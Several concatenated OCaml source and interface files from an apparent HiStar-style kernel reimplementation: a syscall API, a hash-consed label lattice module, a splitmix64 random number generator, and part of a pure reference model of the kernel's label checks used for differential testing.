val self_clearance : unit -> Label.t
val self_set_label : Label.t -> unit
val self_set_clearance : Label.t -> unit
val self_set_as : centry -> unit
val self_get_as : unit -> centry option
val self_get_return_gate : unit -> centry option
val self_halt : unit -> 'a
(** Never returns. *)

val yield : unit -> unit

(** Advance virtual time by this many microseconds and reschedule. *)
val usleep : int -> unit

val sleep_until_ns : int64 -> unit
(** Block until virtual time reaches the deadline (ns). Unlike
    {!usleep} this parks the thread: when nothing else is runnable
    the scheduler advances the clock to the earliest parked deadline,
    so periodic work (retransmission timers) makes progress even when
    no other event would move time forward. Returns immediately if
    the deadline has already passed. *)

val wait_alert : unit -> int

(** {1 Generic object operations} *)

val obj_label : centry -> Label.t
val obj_kind : centry -> kind
val obj_descrip : centry -> string
val obj_quota : centry -> int64 * int64
val set_fixed_quota : centry -> unit
val set_immutable : centry -> unit
val get_metadata : centry -> string
val set_metadata : centry -> string -> unit
val unref : centry -> unit
val quota_move : container:oid -> target:oid -> nbytes:int64 -> unit

(** {1 Containers} *)

val container_create :
  ?avoid:kind list ->
  container:oid ->
  label:Label.t ->
  quota:int64 ->
  string ->
  oid

val container_list : centry -> (oid * kind * string) list
val container_parent : centry -> oid
val container_link : container:oid -> target:centry -> unit

(** {1 Segments} *)

val segment_create :
  container:oid -> label:Label.t -> quota:int64 -> ?len:int -> string -> oid

val segment_read : centry -> ?off:int -> ?len:int -> unit -> string
val segment_write : centry -> ?off:int -> string -> unit
val segment_resize : centry -> int -> unit
val segment_size : centry -> int

val segment_copy :
  src:centry -> container:oid -> label:Label.t -> quota:int64 -> string -> oid

val tls : centry
(** Container entry naming the current thread's local segment. *)

val tls_read : unit -> string
val tls_write : string -> unit
(** Resizes the TLS if needed, then writes at offset 0 (length-prefixed
    reads are the caller's concern). *)

(** {1 Address spaces} *)

val as_create : container:oid -> label:Label.t -> quota:int64 -> string -> oid
val as_get : centry -> Syscall.mapping list
val as_map : centry -> Syscall.mapping -> unit
val as_unmap : centry -> int64 -> unit

(** {1 Threads} *)

val thread_create :
  container:oid ->
  label:Label.t ->
  clearance:Label.t ->
  quota:int64 ->
  name:string ->
  (unit -> unit) ->
  oid

val thread_alert : centry -> int -> unit
val thread_get_label : centry -> Label.t

(** {1 Gates} *)

val gate_create :
  ?one_shot:bool ->
  container:oid ->
  label:Label.t ->
  clearance:Label.t ->
  quota:int64 ->
  name:string ->
  (unit -> unit) ->
  oid
(** [one_shot] (default [false]) makes the gate reap itself from its
    naming container after the first successful invocation, exactly
    like the return gates {!gate_call} mints. This is the primitive
    beneath scoped label excursions: lib/lio creates a one-shot gate
    per [to_labeled]/[catch] block so abandoned scopes cannot pile up
    in the scratch container. *)

val gate_enter :
  gate:centry ->
  label:Label.t ->
  clearance:Label.t ->
  ?verify:Label.t ->
  unit ->
  'a
(** One-way transfer; never returns. *)

val gate_call :
  gate:centry ->
  label:Label.t ->
  clearance:Label.t ->
  ?verify:Label.t ->
  return_container:oid ->
  return_label:Label.t ->
  return_clearance:Label.t ->
  unit ->
  unit
(** Full RPC-style invocation: creates a return gate capturing the
    current continuation, enters the service gate, and returns when the
    service enters the return gate. Arguments and results travel
    through the thread-local segment, as in §3.5. *)

val gate_return : ?keep:Category.t list -> unit -> 'a
(** Enter the current return gate, restoring the caller's privileges
    and dropping every category this entry owns that the return gate
    does not — except those in [keep], which are granted to the caller
    through the return (how §6.2's check gate hands login ownership of
    x). Halts if there is no return gate. Never returns. *)

val rpc_call : gate:centry -> return_container:oid -> string -> string
(** RPC-style gate-call marshalling: write the request to the
    thread-local segment, {!gate_call} the service at the caller's
    current label and clearance, and read the reply back from the TLS
    once the service returns. This is the transport beneath netd's
    socket API and lib/dist's remote-gate client. *)

val gate_floor : centry -> Label.t
(** The least label a thread can request when invoking the gate:
    [(L_T^J ⊔ L_G^J)^⋆]. Reading the gate's label requires read
    permission on its container. *)

(** {1 Futexes} *)

val futex_wait : centry -> off:int -> expected:int64 -> unit
val futex_wake : centry -> off:int -> count:int -> int

(** {1 Network devices} *)

val net_mac : centry -> string
val net_send : centry -> string -> unit
val net_recv : centry -> string

(** {1 Persistence and time} *)

val segment_cas : centry -> off:int -> expected:int64 -> desired:int64 -> bool
(** Atomic compare-and-swap on an 8-byte little-endian word. *)

val sync_object : centry -> unit
val sync_many : centry list -> unit

(** In-place flush of part of a segment to its home disk location. *)
val sync_range : centry -> off:int -> len:int -> unit
val sync_all : unit -> unit
val clock_ns : unit -> int64
