(* Labels are hash-consed: every value of type [t] in the process is
   interned in a weak table, so structurally equal labels are the same
   heap object. [equal] is a pointer test and the lattice operations
   memoize on compact intern ids. The [uid] is process-local and never
   serialized; [compare] stays structural so orderings are stable
   across runs. *)
type t = { uid : int; default : Level.t; entries : Level.t Category.Map.t }

let structural_equal a b =
  Level.equal a.default b.default && Category.Map.equal Level.equal a.entries b.entries

let structural_hash t =
  Category.Map.fold
    (fun c lv acc -> (Hashtbl.hash (Category.to_int64 c, Level.to_rank lv) + (acc * 65599)) land max_int)
    t.entries (Level.to_rank t.default)

module Intern = Weak.Make (struct
  type nonrec t = t

  let equal = structural_equal
  let hash = structural_hash
end)

let intern_tbl = Intern.create 1024
let next_uid = ref 0

(* Interning is process-global and domains intern concurrently (check
   cells and cluster nodes run on the lib/par pool), so the weak table
   and the uid counter sit behind one mutex. Canonical pointers stay
   canonical across domains — two domains interning structurally equal
   labels get the same heap object — which is what keeps [equal]'s
   pointer test sound under parallelism. Uids are process-local and
   never serialized, so their (interleaving-dependent) numbering is
   invisible to every output. *)
let intern_mu = Mutex.create ()

(* The uid is only consumed when the candidate is actually inserted;
   re-interning an existing label allocates nothing persistent. *)
let intern ~default ~entries =
  Mutex.lock intern_mu;
  let candidate = { uid = !next_uid; default; entries } in
  let v = Intern.merge intern_tbl candidate in
  if v == candidate then incr next_uid;
  Mutex.unlock intern_mu;
  v

let interned_count () =
  Mutex.lock intern_mu;
  let n = !next_uid in
  Mutex.unlock intern_mu;
  n

let make d =
  if Level.equal d Level.J then invalid_arg "Label.make: default level J";
  intern ~default:d ~entries:Category.Map.empty

let default t = t.default

let get t c =
  match Category.Map.find_opt c t.entries with
  | Some lv -> lv
  | None -> t.default

let set t c lv =
  let entries =
    if Level.equal lv t.default then Category.Map.remove c t.entries
    else Category.Map.add c lv t.entries
  in
  if entries == t.entries then t else intern ~default:t.default ~entries

let of_list entries d =
  let base = make d in
  (* Single sorted dedup pass: stable-sort by category so later entries
     for the same category stay behind earlier ones, keep the last of
     each run, drop default levels, intern the canonical map once. *)
  let sorted = List.stable_sort (fun (a, _) (b, _) -> Category.compare a b) entries in
  let rec keep_last = function
    | (c1, _) :: ((c2, _) :: _ as rest) when Category.equal c1 c2 -> keep_last rest
    | kept :: rest -> kept :: keep_last rest
    | [] -> []
  in
  let map =
    List.fold_left
      (fun m (c, lv) -> if Level.equal lv d then m else Category.Map.add c lv m)
      Category.Map.empty (keep_last sorted)
  in
  if Category.Map.is_empty map then base else intern ~default:d ~entries:map

let entries t = Category.Map.bindings t.entries

let ranked t =
  ( Category.Map.fold
      (fun c lv acc -> (Category.to_int64 c, Level.to_rank lv) :: acc)
      t.entries []
    |> List.sort compare,
    Level.to_rank t.default )

let categories t =
  Category.Map.fold (fun c _ acc -> Category.Set.add c acc) t.entries Category.Set.empty

(* Interning makes structural equality coincide with identity. *)
let equal a b = a == b

let compare a b =
  if a == b then 0
  else
    let c = Level.compare a.default b.default in
    if c <> 0 then c else Category.Map.compare Level.compare a.entries b.entries

(* Pointwise combination over the union of the two entry sets. *)
let merge_with f a b =
  let entries =
    Category.Map.merge
      (fun _c la lb ->
        let la = Option.value la ~default:a.default in
        let lb = Option.value lb ~default:b.default in
        Some (f la lb))
      a.entries b.entries
  in
  let d = f a.default b.default in
  (* Re-normalize: entries equal to the new default are dropped. *)
  let entries = Category.Map.filter (fun _ lv -> not (Level.equal lv d)) entries in
  intern ~default:d ~entries

let pointwise_forall f a b =
  let ok = ref (f a.default b.default) in
  if !ok then
    Category.Map.iter
      (fun c la -> if not (f la (get b c)) then ok := false)
      a.entries;
  if !ok then
    Category.Map.iter
      (fun c lb -> if not (Category.Map.mem c a.entries) && not (f a.default lb) then ok := false)
      b.entries;
  !ok

let leq_naive a b = pointwise_forall Level.leq a b
let lub_naive a b = merge_with Level.max a b
let glb_naive a b = merge_with Level.min a b

(* Memo tables keyed by intern ids. Uids are never reused (the counter
   only advances on fresh insertions), so a stale entry for a collected
   label is inert: its key can never be looked up again. Bounded by
   wholesale reset, mirroring [label_cache]. *)
let memo_bound = 1 lsl 16

(* Memo tables are shared across domains behind their own mutex. The
   lock is *not* held while [compute] runs: compute re-enters [intern]
   (its own lock), and a duplicate compute from a racing domain is
   harmless — both results intern to the same canonical pointer, so
   whichever insert lands last is equal to the other. *)
let memo_mu = Mutex.create ()

let memo (tbl : ((int * int), 'a) Hashtbl.t) key compute =
  Mutex.lock memo_mu;
  match Hashtbl.find_opt tbl key with
  | Some v ->
      Mutex.unlock memo_mu;
      v
  | None ->
      Mutex.unlock memo_mu;
      let v = compute () in
      Mutex.lock memo_mu;
      if Hashtbl.length tbl >= memo_bound then Hashtbl.reset tbl;
      Hashtbl.replace tbl key v;
      Mutex.unlock memo_mu;
      v

let leq_tbl : (int * int, bool) Hashtbl.t = Hashtbl.create 1024
let lub_tbl : (int * int, t) Hashtbl.t = Hashtbl.create 1024
let glb_tbl : (int * int, t) Hashtbl.t = Hashtbl.create 1024

let leq a b = if a == b then true else memo leq_tbl (a.uid, b.uid) (fun () -> leq_naive a b)
let lub a b = if a == b then a else memo lub_tbl (a.uid, b.uid) (fun () -> lub_naive a b)
let glb a b = if a == b then a else memo glb_tbl (a.uid, b.uid) (fun () -> glb_naive a b)

let map_levels f t =
  let d = f t.default in
  let entries = Category.Map.map f t.entries in
  let entries = Category.Map.filter (fun _ lv -> not (Level.equal lv d)) entries in
  intern ~default:d ~entries

let raise_j_tbl : (int * int, t) Hashtbl.t = Hashtbl.create 1024
let lower_star_tbl : (int * int, t) Hashtbl.t = Hashtbl.create 1024

let raise_j t =
  memo raise_j_tbl (t.uid, t.uid) (fun () ->
      map_levels (function Level.Star -> Level.J | lv -> lv) t)

let lower_star t =
  memo lower_star_tbl (t.uid, t.uid) (fun () ->
      map_levels (function Level.J -> Level.Star | lv -> lv) t)

let owns t c =
  match get t c with Level.Star | Level.J -> true | Level.L0 | Level.L1 | Level.L2 | Level.L3 -> false

let owned t =
  Category.Map.fold
    (fun c lv acc ->
      match lv with
      | Level.Star | Level.J -> Category.Set.add c acc
      | Level.L0 | Level.L1 | Level.L2 | Level.L3 -> acc)
    t.entries Category.Set.empty

let level_exists p t =
  p t.default || Category.Map.exists (fun _ lv -> p lv) t.entries

let has_star t = level_exists (Level.equal Level.Star) t
let has_j t = level_exists (Level.equal Level.J) t
let can_observe ~thread ~obj = leq obj (raise_j thread)
let can_modify ~thread ~obj = leq thread obj && leq obj (raise_j thread)
let can_flow ~src ~dst = leq src dst
let taint_to_read ~thread ~obj = lower_star (lub (raise_j thread) obj)
let is_storable t = not (has_j t)
let is_object_label t = not (has_star t) && not (has_j t)

let encode enc t =
  let module E = Histar_util.Codec.Enc in
  E.u8 enc (Level.to_rank t.default);
  E.u32 enc (Category.Map.cardinal t.entries);
  Category.Map.iter
    (fun c lv ->
      E.i64 enc (Category.to_int64 c);
      E.u8 enc (Level.to_rank lv))
    t.entries

let decode dec =
  let module D = Histar_util.Codec.Dec in
  let d = Level.of_rank (D.u8 dec) in
  let n = D.u32 dec in
  let rec go acc i =
    if i = n then acc
    else
      let c = Category.of_int64 (D.i64 dec) in
      let lv = Level.of_rank (D.u8 dec) in
      let acc = if Level.equal lv d then Category.Map.remove c acc else Category.Map.add c lv acc in
      go acc (i + 1)
  in
  if Level.equal d Level.J then invalid_arg "Label.make: default level J";
  intern ~default:d ~entries:(go Category.Map.empty 0)

let pp fmt t =
  Format.fprintf fmt "{";
  List.iter
    (fun (c, lv) -> Format.fprintf fmt "%a %a, " Category.pp c Level.pp lv)
    (entries t);
  Format.fprintf fmt "%a}" Level.pp t.default

let to_string t = Format.asprintf "%a" pp t
