type t = { default : Level.t; entries : Level.t Category.Map.t }

let make d =
  if Level.equal d Level.J then invalid_arg "Label.make: default level J";
  { default = d; entries = Category.Map.empty }

let default t = t.default

let get t c =
  match Category.Map.find_opt c t.entries with
  | Some lv -> lv
  | None -> t.default

let set t c lv =
  if Level.equal lv t.default then { t with entries = Category.Map.remove c t.entries }
  else { t with entries = Category.Map.add c lv t.entries }

let of_list entries d =
  List.fold_left (fun acc (c, lv) -> set acc c lv) (make d) entries

let entries t = Category.Map.bindings t.entries

let ranked t =
  ( Category.Map.fold
      (fun c lv acc -> (Category.to_int64 c, Level.to_rank lv) :: acc)
      t.entries []
    |> List.sort compare,
    Level.to_rank t.default )

let categories t =
  Category.Map.fold (fun c _ acc -> Category.Set.add c acc) t.entries Category.Set.empty

let equal a b =
  Level.equal a.default b.default && Category.Map.equal Level.equal a.entries b.entries

let compare a b =
  let c = Level.compare a.default b.default in
  if c <> 0 then c else Category.Map.compare Level.compare a.entries b.entries

(* Pointwise combination over the union of the two entry sets. *)
let merge_with f a b =
  let entries =
    Category.Map.merge
      (fun _c la lb ->
        let la = Option.value la ~default:a.default in
        let lb = Option.value lb ~default:b.default in
        Some (f la lb))
      a.entries b.entries
  in
  let d = f a.default b.default in
  (* Re-normalize: entries equal to the new default are dropped. *)
  let entries = Category.Map.filter (fun _ lv -> not (Level.equal lv d)) entries in
  { default = d; entries }

let pointwise_forall f a b =
  let ok = ref (f a.default b.default) in
  if !ok then
    Category.Map.iter
      (fun c la -> if not (f la (get b c)) then ok := false)
      a.entries;
  if !ok then
    Category.Map.iter
      (fun c lb -> if not (Category.Map.mem c a.entries) && not (f a.default lb) then ok := false)
      b.entries;
  !ok

let leq a b = pointwise_forall Level.leq a b
let lub a b = merge_with Level.max a b
let glb a b = merge_with Level.min a b

let map_levels f t =
  let d = f t.default in
  let entries = Category.Map.map f t.entries in
  let entries = Category.Map.filter (fun _ lv -> not (Level.equal lv d)) entries in
  { default = d; entries }

let raise_j t = map_levels (function Level.Star -> Level.J | lv -> lv) t
let lower_star t = map_levels (function Level.J -> Level.Star | lv -> lv) t

let owns t c =
  match get t c with Level.Star | Level.J -> true | Level.L0 | Level.L1 | Level.L2 | Level.L3 -> false

let owned t =
  Category.Map.fold
    (fun c lv acc ->
      match lv with
      | Level.Star | Level.J -> Category.Set.add c acc
      | Level.L0 | Level.L1 | Level.L2 | Level.L3 -> acc)
    t.entries Category.Set.empty

let level_exists p t =
  p t.default || Category.Map.exists (fun _ lv -> p lv) t.entries

let has_star t = level_exists (Level.equal Level.Star) t
let has_j t = level_exists (Level.equal Level.J) t
let can_observe ~thread ~obj = leq obj (raise_j thread)
let can_modify ~thread ~obj = leq thread obj && leq obj (raise_j thread)
let can_flow ~src ~dst = leq src dst
let taint_to_read ~thread ~obj = lower_star (lub (raise_j thread) obj)
let is_storable t = not (has_j t)
let is_object_label t = not (has_star t) && not (has_j t)

let encode enc t =
  let module E = Histar_util.Codec.Enc in
  E.u8 enc (Level.to_rank t.default);
  E.u32 enc (Category.Map.cardinal t.entries);
  Category.Map.iter
    (fun c lv ->
      E.i64 enc (Category.to_int64 c);
      E.u8 enc (Level.to_rank lv))
    t.entries

let decode dec =
  let module D = Histar_util.Codec.Dec in
  let d = Level.of_rank (D.u8 dec) in
  let n = D.u32 dec in
  let rec go acc i =
    if i = n then acc
    else
      let c = Category.of_int64 (D.i64 dec) in
      let lv = Level.of_rank (D.u8 dec) in
      go (set acc c lv) (i + 1)
  in
  go (make d) 0

let pp fmt t =
  Format.fprintf fmt "{";
  List.iter
    (fun (c, lv) -> Format.fprintf fmt "%a %a, " Category.pp c Level.pp lv)
    (entries t);
  Format.fprintf fmt "%a}" Level.pp t.default

let to_string t = Format.asprintf "%a" pp t
