(** Asbestos-style labels and the HiStar label algebra (§2).

    A label is a function from categories to taint levels that differs
    from a default level in only finitely many categories. We keep
    labels normalized — entries equal to the default are dropped — so
    structural equality coincides with extensional equality.

    The key comparison is [leq] (the paper's ⊑):
    [leq l1 l2] iff for every category [c], [l1(c) <= l2(c)] in the
    order ⋆ < 0 < 1 < 2 < 3 < J. Ownership (⋆) is shifted high to J by
    [raise_j] (the paper's superscript-J operator) and back by
    [lower_star] (superscript-⋆).

    Labels are hash-consed: every constructor interns its result in a
    process-wide weak table, so structurally equal labels are the same
    heap object, [equal] is a pointer test, and [leq]/[lub]/[glb]
    memoize on compact intern ids. The intern id is process-local and
    never serialized; [compare] remains structural. *)

type t

val make : Level.t -> t
(** [make d] is the label [{d}] that maps every category to [d].
    Raises [Invalid_argument] if [d] is [J]. *)

val of_list : (Category.t * Level.t) list -> Level.t -> t
(** [of_list entries default] builds a label; later entries for the
    same category override earlier ones. *)

val default : t -> Level.t
val get : t -> Category.t -> Level.t

val set : t -> Category.t -> Level.t -> t
(** Functional update; setting a category to the default level removes
    its entry. *)

val entries : t -> (Category.t * Level.t) list
(** Non-default entries in increasing category order. *)

val ranked : t -> (int64 * int) list * int
(** Numeric view for the {!Histar_model} reference algebra: non-default
    entries as [(category id, rank)] sorted by category id, plus the
    default rank, where rank orders ⋆ < 0 < 1 < 2 < 3 < J as 0..5
    (see {!Level.to_rank}). *)

val categories : t -> Category.Set.t
(** Categories with non-default entries. *)

val equal : t -> t -> bool
(** Physical equality. Because all constructors intern, this coincides
    with structural (and hence extensional) equality. *)

val compare : t -> t -> int
(** Structural order (default level, then entries); stable across runs
    and processes, unlike the intern ids. *)

val interned_count : unit -> int
(** Number of distinct labels interned so far in this process (weak
    table insertions; never decremented). Re-interning a structurally
    equal label does not advance it. *)

(** {1 Lattice operations} *)

val leq : t -> t -> bool
(** The paper's ⊑ relation: pointwise level comparison. *)

val lub : t -> t -> t
(** Least upper bound ⊔: pointwise maximum. *)

val glb : t -> t -> t
(** Greatest lower bound: pointwise minimum. *)

val leq_naive : t -> t -> bool
val lub_naive : t -> t -> t
val glb_naive : t -> t -> t
(** Un-memoized reference implementations — the direct §2 pointwise
    algebra over the entry maps, bypassing the intern-id memo tables.
    Oracles for the differential tests; the memoized operations must
    agree with these exactly on every input. *)

(** {1 Ownership operators} *)

val raise_j : t -> t
(** Superscript J: map ⋆ to J (ownership read high). *)

val lower_star : t -> t
(** Superscript ⋆: map J to ⋆ (ownership read low). *)

val owns : t -> Category.t -> bool
(** [owns l c] iff [l(c)] is ⋆ (or J). *)

val owned : t -> Category.Set.t
(** All owned categories. *)

val has_star : t -> bool
val has_j : t -> bool

(** {1 Access checks (§2.2)} *)

val can_observe : thread:t -> obj:t -> bool
(** "No read up": [L_O ⊑ L_T{^J}]. *)

val can_modify : thread:t -> obj:t -> bool
(** "No write down" (which in HiStar implies observing):
    [L_T ⊑ L_O ⊑ L_T{^J}]. *)

val can_flow : src:t -> dst:t -> bool
(** Pure information-flow check with no ownership shifting: [src ⊑ dst].
    Used by the flow oracle in tests. *)

val taint_to_read : thread:t -> obj:t -> t
(** The minimal label a thread must raise itself to in order to observe
    the object: [(L_T{^J} ⊔ L_O){^⋆}]. *)

(** {1 Validity} *)

val is_storable : t -> bool
(** No category at [J] (legal to store in a thread or gate label). *)

val is_object_label : t -> bool
(** No ⋆ and no [J]: legal for segments, containers, address spaces,
    devices. *)

(** {1 Serialization and printing} *)

val encode : Histar_util.Codec.Enc.t -> t -> unit
val decode : Histar_util.Codec.Dec.t -> t

val pp : Format.formatter -> t -> unit
(** Prints in the paper's notation, e.g. [{c3 *, c7 3, 1}]. *)

val to_string : t -> string
