type t = { mutable state : int64 }

let create seed = { state = seed }

(* splitmix64: good statistical quality, trivially seedable. *)
let next64 t =
  t.state <- Int64.add t.state 0x9E3779B97F4A7C15L;
  let z = t.state in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL in
  Int64.logxor z (Int64.shift_right_logical z 31)

let int t bound =
  assert (bound > 0);
  let v = Int64.to_int (Int64.shift_right_logical (next64 t) 2) in
  v mod bound

let state t = t.state
let set_state t s = t.state <- s
let copy t = { state = t.state }
let bool t = Int64.logand (next64 t) 1L = 1L
let byte t = Char.chr (int t 256)
let bytes t n = String.init n (fun _ -> byte t)
let split t = create (next64 t)
