(** Deterministic pseudo-random number generator (splitmix64).

    The kernel and simulators never use [Stdlib.Random] directly so that
    whole-system runs are reproducible from a seed. *)

type t

val create : int64 -> t
(** [create seed] makes an independent generator. *)

val next64 : t -> int64
(** Next raw 64-bit value. *)

val int : t -> int -> int
(** [int t bound] is uniform in [\[0, bound)]. [bound] must be positive. *)

val state : t -> int64
(** Current internal state, for snapshot/restore (speculative
    execution that may need to rewind its decisions). *)

val set_state : t -> int64 -> unit
(** Restore a state previously read with {!state}. *)

val copy : t -> t
(** Independent generator continuing from the same state. *)

val bool : t -> bool
val byte : t -> char

val bytes : t -> int -> string
(** [bytes t n] is an [n]-byte pseudo-random string. *)

val split : t -> t
(** Derive an independent generator. *)
