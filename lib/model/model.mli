(** Executable reference model of the HiStar kernel (§3).

    A small, pure transcription of the kernel's externally-specified
    behaviour: the six object types with their labels, quotas
    (double-charged in every parent, §3.3), container link structure,
    and the exact label checks each system call performs — including
    the full gate-call round trip of §3.5/§5.5 (service-gate invocation
    checks, return-gate creation at the caller's label, ⋆-drop on
    return, one-shot return-gate reaping).

    [step] is a pure function from a state and one request to a new
    state, the response, and a scheduling status; every error is the
    label-check (or quota/validity) error class the paper mandates, in
    the same check order as [lib/core/kernel.ml]. The conformance
    fuzzer in [lib/check] executes syscall traces against both this
    model and the real kernel and reports any divergence.

    Out of scope (documented in EXPERIMENTS.md): scheduling and
    blocking (futex wait queues, alerts, timers), devices, persistence,
    thread-local segments, and address-space activation — the model
    keeps AS mappings as inert data. Model object ids and category ids
    are small sequential integers; the comparison layer translates. *)

type oid = int64
type centry = { container : oid; object_id : oid }

type kind = Segment | Thread | Address_space | Gate | Container | Device

type err =
  | E_label
  | E_not_found
  | E_invalid
  | E_quota
  | E_immutable
  | E_avoid
      (** Error classes, mirroring [Histar_core.Types.error] without
          the message payloads. *)

type mapping = {
  va : int64;
  seg : centry;
  map_off : int;
  npages : int;
  mread : bool;
  mwrite : bool;
  mexec : bool;
}

type spec = {
  sc_container : oid;
  sc_label : Mlabel.t;
  sc_quota : int64;
  sc_descrip : string;
}

type req =
  | Cat_create
  | Self_get_label
  | Self_get_clearance
  | Self_set_label of Mlabel.t
  | Self_set_clearance of Mlabel.t
  | Obj_get_label of centry
  | Obj_get_kind of centry
  | Obj_get_descrip of centry
  | Obj_get_quota of centry
  | Obj_set_fixed_quota of centry
  | Obj_set_immutable of centry
  | Obj_get_metadata of centry
  | Obj_set_metadata of centry * string
  | Unref of centry
  | Quota_move of { qm_container : oid; qm_target : oid; qm_nbytes : int64 }
  | Container_create of spec * kind list  (** extra avoided kinds *)
  | Container_list of centry
  | Container_get_parent of centry
  | Container_link of { cl_container : oid; cl_target : centry }
  | Segment_create of spec * int
  | Segment_read of centry * int * int
  | Segment_write of centry * int * string
  | Segment_resize of centry * int
  | Segment_get_size of centry
  | Segment_copy of centry * spec
  | Segment_cas of { cas_seg : centry; cas_off : int; cas_exp : int64; cas_des : int64 }
  | As_create of spec
  | As_get of centry
  | As_map of centry * mapping
  | As_unmap of centry * int64
  | Thread_create of spec * Mlabel.t  (** clearance of the new thread *)
  | Thread_get_label of centry
  | Gate_create of {
      gc_spec : spec;
      gc_clearance : Mlabel.t;
      gc_keep : bool;
      gc_once : bool;
    }
      (** [gc_keep]: the modeled service entry immediately returns via
          [gate_return], keeping all owned categories when [gc_keep]
          (granting the gate's ⋆s through the return, §6.2) and keeping
          none otherwise. [gc_once]: the gate is one-shot — reaped from
          its naming container after the first successful invocation,
          mirroring the kernel's [Sys.gate_create ~one_shot:true]. *)
  | Gate_call of {
      g_gate : centry;
      g_label : Mlabel.t option;  (** [None]: request the gate floor *)
      g_clear : Mlabel.t option;  (** [None]: current clearance *)
      g_verify : Mlabel.t;
      g_retcon : oid;  (** container for the return gate *)
    }
  | Futex_wake of centry * int * int
  | Sync_object of centry

type resp =
  | R_unit
  | R_bool of bool
  | R_cat of int64
  | R_label of Mlabel.t
  | R_oid of oid
  | R_bytes of string
  | R_int of int64
  | R_quota of int64 * int64
  | R_kind of kind
  | R_entries of (oid * kind * string) list
  | R_mappings of mapping list
  | R_err of err * string

type status =
  | S_continue
  | S_thread_gone
      (** The request destroyed the calling thread; its response is
          never delivered and no further request from it runs. *)
  | S_stuck of err * string
      (** A gate call transferred control but the modeled return path
          failed its checks; the thread halts inside the service with
          the state mutated up to that point (return gate leaked). *)

type view = {
  v_kind : kind;
  v_label : Mlabel.t;
  v_descrip : string;
  v_quota : int64;
  v_usage : int64;
  v_fixed : bool;
  v_immut : bool;
  v_meta : string;
  v_refs : int;
  v_seg : string option;
  v_children : (oid * kind * string) list option;  (** sorted by oid *)
  v_parent : oid option;
  v_clear : Mlabel.t option;  (** threads *)
  v_maps : mapping list option;
}

type state

val infinite_quota : int64
val init : unit -> state
(** Mirrors [Kernel.create] + one [spawn]: a root container (label {1},
    quota ∞) holding one boot thread (label {1}, clearance {2}, quota
    65536). *)

val root : state -> oid
val boot_thread : state -> oid

val spawn :
  state ->
  container:oid ->
  label:Mlabel.t ->
  clearance:Mlabel.t ->
  descrip:string ->
  state * oid
(** Host-level bootstrap outside label checks, mirroring
    [Kernel.spawn]. Raises [Invalid_argument] on a bad container. *)

val step : state -> thread:oid -> req -> state * resp * status
(** Unknown or non-thread [thread] raises [Invalid_argument]. *)

val live : state -> oid list
(** All live object ids, sorted. *)

val view : state -> oid -> view option
val thread_label_of : state -> oid -> Mlabel.t option
val thread_clearance_of : state -> oid -> Mlabel.t option
val err_to_string : err -> string
val kind_to_string : kind -> string

val check_gate_invoke :
  lt:Mlabel.t ->
  ct:Mlabel.t ->
  lg:Mlabel.t ->
  gclear:Mlabel.t ->
  rl:Mlabel.t ->
  rc:Mlabel.t ->
  lv:Mlabel.t ->
  (unit, err * string) result
(** The §3.5 gate-invocation rule in isolation: thread (label [lt],
    clearance [ct]) invoking a gate (label [lg], clearance [gclear])
    requesting [rl]/[rc] against verify label [lv]. Exposed so
    lib/dist's remote admission check ({!Histar_dist.Proto.admit})
    can be conformance-tested clause for clause against the model. *)
