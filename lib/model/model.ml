(* Pure reference model of the kernel. Transcribed from §3 of the
   paper with the same check *order* as lib/core/kernel.ml, so that
   error classes line up under differential testing. State is a
   persistent map keyed by small sequential object ids; mutations on a
   failing syscall never leak (each operation either returns a wholly
   new state or the original one) — except the gate-call round trip,
   whose partial progress on a stuck return path is part of the
   specified behaviour (the return gate leaks, the thread keeps the
   requested label). *)

type oid = int64
type centry = { container : oid; object_id : oid }
type kind = Segment | Thread | Address_space | Gate | Container | Device

type err = E_label | E_not_found | E_invalid | E_quota | E_immutable | E_avoid

type mapping = {
  va : int64;
  seg : centry;
  map_off : int;
  npages : int;
  mread : bool;
  mwrite : bool;
  mexec : bool;
}

type spec = {
  sc_container : oid;
  sc_label : Mlabel.t;
  sc_quota : int64;
  sc_descrip : string;
}

type req =
  | Cat_create
  | Self_get_label
  | Self_get_clearance
  | Self_set_label of Mlabel.t
  | Self_set_clearance of Mlabel.t
  | Obj_get_label of centry
  | Obj_get_kind of centry
  | Obj_get_descrip of centry
  | Obj_get_quota of centry
  | Obj_set_fixed_quota of centry
  | Obj_set_immutable of centry
  | Obj_get_metadata of centry
  | Obj_set_metadata of centry * string
  | Unref of centry
  | Quota_move of { qm_container : oid; qm_target : oid; qm_nbytes : int64 }
  | Container_create of spec * kind list
  | Container_list of centry
  | Container_get_parent of centry
  | Container_link of { cl_container : oid; cl_target : centry }
  | Segment_create of spec * int
  | Segment_read of centry * int * int
  | Segment_write of centry * int * string
  | Segment_resize of centry * int
  | Segment_get_size of centry
  | Segment_copy of centry * spec
  | Segment_cas of { cas_seg : centry; cas_off : int; cas_exp : int64; cas_des : int64 }
  | As_create of spec
  | As_get of centry
  | As_map of centry * mapping
  | As_unmap of centry * int64
  | Thread_create of spec * Mlabel.t
  | Thread_get_label of centry
  | Gate_create of {
      gc_spec : spec;
      gc_clearance : Mlabel.t;
      gc_keep : bool;
      gc_once : bool;
    }
  | Gate_call of {
      g_gate : centry;
      g_label : Mlabel.t option;
      g_clear : Mlabel.t option;
      g_verify : Mlabel.t;
      g_retcon : oid;
    }
  | Futex_wake of centry * int * int
  | Sync_object of centry

type resp =
  | R_unit
  | R_bool of bool
  | R_cat of int64
  | R_label of Mlabel.t
  | R_oid of oid
  | R_bytes of string
  | R_int of int64
  | R_quota of int64 * int64
  | R_kind of kind
  | R_entries of (oid * kind * string) list
  | R_mappings of mapping list
  | R_err of err * string

type status = S_continue | S_thread_gone | S_stuck of err * string

module M = Map.Make (Int64)

type con = { children : kind M.t; parent : oid; avoid : int }

(* [Dev] is never built (devices are out of the model's scope) but
   keeps the body/kind correspondence total. *)
type body =
  | Seg of string
  | Con of con
  | Thr of { tclear : Mlabel.t }
  | Gat of { gclear : Mlabel.t; gkeep : bool; gonce : bool }
  | Asp of mapping list
  | Dev [@warning "-37"]

type obj = {
  kind : kind;
  label : Mlabel.t;
  descrip : string;
  quota : int64;
  usage : int64;
  fixed : bool;
  immut : bool;
  meta : string;
  refs : int;
  body : body;
}

type state = {
  objs : obj M.t;
  next_oid : oid;
  next_cat : int64;
  root : oid;
  boot : oid;
}

type view = {
  v_kind : kind;
  v_label : Mlabel.t;
  v_descrip : string;
  v_quota : int64;
  v_usage : int64;
  v_fixed : bool;
